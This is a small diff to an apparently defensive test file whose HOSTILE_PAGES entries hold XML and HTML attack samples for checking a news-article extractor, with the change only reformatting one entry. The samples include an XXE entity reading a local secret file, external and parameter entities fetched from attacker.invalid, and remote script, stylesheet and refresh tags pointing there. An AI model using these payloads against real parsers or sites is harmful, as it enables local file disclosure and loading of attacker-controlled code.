@@ -33,9 +33,13 @@ HOSTILE_PAGES = {
 <!DOCTYPE html [<!ENTITY xxe SYSTEM "file://{secret_path}">]>
 <html><body><article><p>Foshan report &xxe; continues with enough words to be an article about Midea in Shunde.</p>
 <p>The second paragraph mentions the Greater Bay Area plan and more ordinary text.</p></article></body></html>""",
-    "external entity (http)": """<?xml version="1.0"?>
-<!DOCTYPE html [<!ENTITY remote SYSTEM "http://attacker.invalid/entity.txt"> <!ENTITY % p SYSTEM "http://attacker.invalid/p.dtd"> %p;]>
-<html><body><p>Foshan report &remote; with enough words to count as the main text of a news article here.</p></body></html>""",
+    "external entity (http)": (
+        '<?xml version="1.0"?>\n'
+        '<!DOCTYPE html [<!ENTITY remote SYSTEM "http://attacker.invalid/entity.txt"> '
+        '<!ENTITY % p SYSTEM "http://attacker.invalid/p.dtd"> %p;]>\n'
+        "<html><body><p>Foshan report &remote; with enough words to count as the main text of a news article here.</p>"
+        "</body></html>"
+    ),
     "remote resources": """<html><head><link rel="stylesheet" href="http://attacker.invalid/s.css">
 <script src="http://attacker.invalid/x.js"></script><base href="http://attacker.invalid/">
 <meta http-equiv="refresh" content="0; url=http://attacker.invalid/"></head>
